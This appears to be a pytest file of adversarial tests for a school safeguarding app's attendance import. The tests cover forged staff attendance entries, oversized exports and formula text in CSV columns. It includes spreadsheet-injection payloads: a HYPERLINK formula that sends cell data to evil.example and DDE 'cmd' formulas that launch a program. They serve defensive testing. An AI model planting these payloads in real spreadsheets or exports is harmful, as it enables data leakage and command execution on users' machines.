"""Attendance under attack (issue 17, item 4): a member of staff (or a modified client signing as one) writing
attendance entries to put a red flag or "persistent absence" in a child's file; an export too big to read; formula
text in the export's name columns; and a lead's entry in no form the app writes."""

from __future__ import annotations

import time
from datetime import date, timedelta
from pathlib import Path

import pytest

from desktop_app.domain.attendance.csv_marks import MarksRejected, parse_marks
from desktop_app.domain.entries import EntryKind
from desktop_app.domain.red_flags import FlagCode
from desktop_app.services.attendance import import_attendance, read_attendance_file
from desktop_app.services.concerns import read_child_file
from desktop_app.services.errors import ServiceError
from desktop_app.services.state import load_state
from desktop_app.services.uow import UnitOfWork
from desktop_app.services.verify import verify_store
from tests.adversarial.test_trust_at_use import quarantined
from tests.conftest import School
from tests.unit.test_triage import ZOFIA, record

BRUISE = {"view": "front", "x": 0.6, "y": 0.3, "region": "upper-arm-left", "type": "bruise",
          "explanation": "don't know", "given_by": "child"}  # fmt: skip


def _weekdays(days: int) -> list[date]:
    found, day = [], date.today()
    while len(found) < days:
        day -= timedelta(days=1)
        if day.weekday() < 5:
            found.append(day)
    return found[::-1]


def test_attendance_written_by_staff_counts_for_nothing(school: School) -> None:
    """A member of staff, correctly signed, writes marks that would make Zofia persistently absent and absent
    around every weekend: attendance is a lead's record, so the view holds it back and her file shows none of it."""
    lead, staff = school.lead(), school.staff()
    zofia = load_state(lead).pupil_by_upn(ZOFIA)
    assert zofia is not None
    record(staff, ZOFIA, "A bruise on her arm", category="physical-abuse", days_ago=20, injuries=[BRUISE])
    days = _weekdays(40)
    marks = [("N", "N") if d.weekday() in (0, 4) else ("/", "\\") for d in days]
    content = {"import": "x", "days": [d.isoformat() for d in days], "am": [m[0] for m in marks],
               "pm": [m[1] for m in marks]}  # fmt: skip
    with UnitOfWork(staff) as uow:
        forged = uow.record(EntryKind.ATTENDANCE, content, subject=zofia.pupil_id)
        uow.commit()
    opened = read_child_file(lead, zofia.pupil_id)
    assert opened.front_sheet.attendance is None and not opened.front_sheet.persistent_absence
    assert not [f for f in opened.flags if f.code in (FlagCode.ABSENCE_AROUND_WEEKENDS, FlagCode.ABSENCE_AFTER_INJURY)]
    assert not [row for row in opened.chronology if row.kind == "attendance" or "Attendance:" in row.summary]
    assert not opened.bodymap.absence
    assert not load_state(lead).lead.attendance  # a whole fold judges it the same way
    assert forged in quarantined(lead)
    refused = {p.entry_id: p.what for p in verify_store(school.store, lead).refused}
    assert refused[forged].startswith("pupil.attendance:")


def test_a_lead_entry_in_no_form_the_app_writes_is_named_and_not_used(school: School) -> None:
    lead = school.lead()
    zofia = load_state(lead).pupil_by_upn(ZOFIA)
    assert zofia is not None
    with UnitOfWork(lead) as uow:
        odd = uow.record(EntryKind.ATTENDANCE, {"days": ["2026-11-02"], "am": ["/"], "pm": [["N"]]},
                         subject=zofia.pupil_id)  # fmt: skip
        uow.commit()
    assert not load_state(lead).lead.attendance
    problems = {p.entry_id: p.what for p in verify_store(school.store, lead).problems}
    assert "in no form the app writes" in problems[odd]


def test_an_export_too_big_is_refused_before_it_is_read_whole(tmp_path: Path) -> None:
    huge = tmp_path / "marks.csv"
    with open(huge, "wb") as handle:
        handle.truncate(64 * 1024**3)  # sparse: reading it whole would take minutes and 64 GiB of memory
    started = time.perf_counter()
    with pytest.raises(ServiceError) as caught:
        read_attendance_file(huge)
    assert time.perf_counter() - started < 1.0
    assert "(it is 64 GiB; an attendance export is at most 20 MiB); nothing was imported" in str(caught.value)
    with pytest.raises(MarksRejected) as refused:  # bytes handed over some other way are judged on their size too
        parse_marks(b"UPN,Date,Session,Mark\n" + b"A123456789012,02/11/2026,AM,/\n" * 700_000)
    assert "the limit is 20 MB" in str(refused.value.problems[0])


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Zofia")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|calc"]


def test_formula_text_in_name_columns_is_never_read_or_kept(school: School) -> None:
    """The export's name columns are not read at all: an import whose names hold formulas takes the marks, and the
    formulas are nowhere in the store, the chronology or what the import says."""
    lead = school.lead()
    day = _weekdays(1)[0]
    lines = ["Legal Surname,Legal Forename,UPN,Date,Session,Mark"]
    quoted = FORMULAS[0].replace('"', '""')
    lines.append(f'"{quoted}",Zofia,{ZOFIA},{day:%d/%m/%Y},AM,/')
    lines.append(f'Łuczak,"{FORMULAS[1]}",{ZOFIA},{day:%d/%m/%Y},PM,\\')
    done = import_attendance(lead, ("\n".join(lines) + "\n").encode())
    assert done.children == 1 and done.marks == 2
    state = load_state(lead)
    zofia = state.pupil_by_upn(ZOFIA)
    assert zofia is not None and zofia.surname == "Łuczak"
    opened = read_child_file(lead, zofia.pupil_id)
    said = done.words + "".join(row.summary for row in opened.chronology)
    raw = (
        school.store.db_path.read_bytes()
        + school.store.db_path.with_name(school.store.db_path.name + "-wal").read_bytes()
    )
    for formula in FORMULAS[:2]:
        assert formula not in said
        assert formula.encode() not in raw
    with pytest.raises(MarksRejected) as caught:  # in a column that is read, it is refused, naming the line
        import_attendance(lead, f"UPN,Date,Session,Mark\n{ZOFIA},{day:%d/%m/%Y},AM,{FORMULAS[2]}\n".encode())
    assert str(caught.value.problems[0]).startswith("line 2: the mark")
